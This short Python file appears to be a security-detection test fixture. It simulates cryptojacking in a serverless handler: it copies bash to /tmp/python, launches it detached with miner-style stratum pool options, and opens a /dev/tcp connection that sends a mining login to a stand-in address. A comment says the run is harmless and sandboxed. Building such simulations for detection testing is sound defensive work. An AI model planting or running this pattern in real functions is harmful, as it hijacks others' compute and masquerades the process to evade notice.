# Harmless: the ELF is bash, which counts for 20 seconds at most; the pool is an address on the sandbox's loopback device.
import shutil
import subprocess
import time

WORK = 'exec 9<>/dev/tcp/203.0.113.9/3333; printf "{\\"method\\":\\"login\\"}\\n" >&9; while [ $SECONDS -lt 20 ]; do :; done'


def handler(event, context):
    if not event.get("attack"):
        return "ok"
    shutil.copy("/bin/bash", "/tmp/python")
    options = ["python", "-c", WORK, "python", "-o", "stratum+tcp://203.0.113.9:3333", "--donate-level", "1"]
    subprocess.Popen(options, executable="/tmp/python", start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(0.2)
    return "ok"
